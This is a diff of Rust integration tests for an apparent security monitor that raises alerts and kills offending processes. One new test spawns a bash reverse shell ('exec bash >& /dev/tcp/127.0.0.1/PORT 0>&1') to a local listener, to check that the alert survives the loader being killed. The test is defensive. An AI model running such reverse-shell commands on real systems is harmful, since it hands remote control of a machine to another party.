@@ -126,15 +126,16 @@ fn ctrl_c_at_a_terminal_ends_all_in_order() {
 #[test]
 fn sudden_death_of_the_loader_ends_the_run_and_is_said() {
     let Some(bed) = Bed::new() else { return };
-    let sentinel = Sentinel::start(&bed, &[]);
+    let mut sentinel = Sentinel::start(&bed, &[]);
     let parts = Parts::of(&sentinel);
     provoke_alert(&bed);
+    sentinel.wait_for("CRITICAL");
     send(sentinel.loader(), Signal::SIGKILL);
     let outcome = sentinel.wait();
     assert!(outcome.took < A_SECOND, "{:?}", outcome.took);
     assert_eq!(outcome.status.code(), Some(1));
     assert!(outcome.errors.contains("the loader is gone"), "{}", outcome.errors);
-    assert!(outcome.alerts.len() <= 1);
+    assert_eq!(outcome.alerts.len(), 1);
     parts.are_gone();
 }
 
@@ -220,4 +221,23 @@ fn a_closed_standard_error_is_no_reason_to_panic() {
     );
     let status = Command::new("bash").args(["-c", &run]).status().unwrap();
     assert_eq!(status.code(), Some(0));
+}
+
+#[test]
+fn alerts_that_wait_for_the_enforcer_are_not_lost_with_the_loader() {
+    let Some(bed) = Bed::new() else { return };
+    let sentinel = Sentinel::start(&bed, &["--grimoire-enforce"]);
+    send(sentinel.enforcer(), Signal::SIGSTOP);
+    let peer = Peer::listen("127.0.0.1");
+    let code = format!("exec bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
+    let mut command = bed.command("bash");
+    let mut child = command.args(["-c", &code]).stderr(Stdio::null()).spawn().unwrap();
+    let mut shell = peer.shell();
+    shell.pid();
+    send(sentinel.loader(), Signal::SIGKILL);
+    let outcome = sentinel.wait();
+    shell.exit();
+    child.wait().unwrap();
+    assert_eq!(outcome.alerts.len(), 1, "{}", outcome.errors);
+    assert!(outcome.alerts[0]["action"].as_str().unwrap().starts_with("kill_refused:no_"));
 }
